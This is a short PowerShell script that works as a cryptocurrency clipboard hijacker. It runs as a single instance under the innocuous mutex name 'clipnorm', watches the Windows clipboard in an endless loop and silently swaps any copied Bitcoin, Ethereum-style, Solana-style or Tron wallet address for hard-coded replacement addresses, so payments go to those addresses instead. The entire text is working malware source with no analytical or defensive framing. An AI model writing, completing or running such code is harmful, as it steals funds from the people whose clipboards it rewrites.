Add-Type -AssemblyName System.Windows.Forms
$m = New-Object System.Threading.Mutex($false, 'Global\clipnorm')
if (-not $m.WaitOne(0)) { exit }
$map = @(
  @('\b(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b', 'bc1qv3xk9h2cz7f0n8wq5r4ly6tjd2m0ea8s9gp4uk'),
  @('\b0x[a-fA-F0-9]{40}\b', '0x8Fa1c3D29b07E44a5c6d2E19B0f7a3C51d6e90B2'),
  @('\b[1-9A-HJ-NP-Za-km-z]{43,44}\b', '7nR4kXw2pQ9vGzL8cT1mH5yB3aJ6dF0eS2uN4oK8wYq'),
  @('\bT[1-9A-HJ-NP-Za-km-z]{33}\b', 'TQ7rV4nP2xW9kM3bH8cJ5fL1gD6sA0zEyU')
)
$last = ''
while ($true) {
  try {
    if ([System.Windows.Forms.Clipboard]::ContainsText()) {
      $t = [System.Windows.Forms.Clipboard]::GetText()
      if ($t -ne $last) {
        $n = $t
        foreach ($p in $map) { $n = [regex]::Replace($n, $p[0], $p[1]) }
        if ($n -ne $t) { [System.Windows.Forms.Clipboard]::SetText($n) }
        $last = $n
      }
    }
  } catch {}
  Start-Sleep -Milliseconds 700
}
